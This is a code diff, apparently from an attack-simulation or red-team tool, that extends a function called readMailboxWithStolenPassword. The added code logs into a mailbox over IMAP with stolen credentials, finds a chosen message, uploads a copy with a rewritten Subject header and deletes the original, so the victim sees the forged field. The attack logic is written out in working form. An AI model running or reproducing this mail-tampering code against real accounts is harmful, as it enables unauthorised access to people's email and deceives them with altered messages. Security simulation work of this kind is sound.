@@ -10,6 +10,21 @@ export interface ReadMailboxOptions {
   readonly mailbox?: string;
   /** At most this many newest messages (default 50). */
   readonly limit?: number;
+  /**
+   * After reading, replace the mail with this Message-ID by a copy whose outer Subject is `subject`
+   * (IMAP APPEND, then the original deleted): the mailbox holder is shown the forged field.
+   */
+  readonly forgeSubject?: { readonly messageId: string; readonly subject: string };
+}
+
+/** `raw` with its first top-level Subject field replaced by (or, without one, given) `subject`. */
+function withSubject(raw: Uint8Array, subject: string): Uint8Array {
+  const text = Buffer.from(raw).toString('latin1');
+  const end = text.search(/\r?\n\r?\n/);
+  const head = end >= 0 ? text.slice(0, end) : text;
+  const field = `Subject: ${subject}`;
+  const forged = /^Subject:.*(\r?\n[ \t].*)*/im.test(head) ? head.replace(/^Subject:.*(\r?\n[ \t].*)*/im, field) : `${field}\r\n${head}`;
+  return new Uint8Array(Buffer.from(forged + text.slice(head.length), 'latin1'));
 }
 
 /**
@@ -97,9 +112,17 @@ export async function readMailboxWithStolenPassword(
       rec.act(`selected ${mailbox}: ${exists} message(s)`);
       if (exists > 0) {
         const first = Math.max(1, exists - (o.limit ?? 50) + 1);
+        const forge: { uid: number; raw: Uint8Array }[] = [];
+        const wanted = o.forgeSubject?.messageId.replace(/^<|>$/g, '');
         for await (const m of client.fetch(`${first}:*`, { source: true, uid: true })) {
           if (!m.source) continue;
           recordMailContent(rec, new Uint8Array(m.source), `read from ${foothold.user}'s ${mailbox} (UID ${m.uid})`);
+          if (wanted && (rawHeader(new Uint8Array(m.source), 'Message-ID') ?? '').includes(wanted)) forge.push({ uid: m.uid, raw: new Uint8Array(m.source) });
+        }
+        for (const f of forge) {
+          await client.append(mailbox, Buffer.from(withSubject(f.raw, o.forgeSubject!.subject)));
+          await client.messageDelete(String(f.uid), { uid: true });
+          rec.act(`replaced UID ${f.uid} by a copy with the outer Subject "${o.forgeSubject!.subject}" (APPEND, original deleted)`);
         }
       }
     } finally {
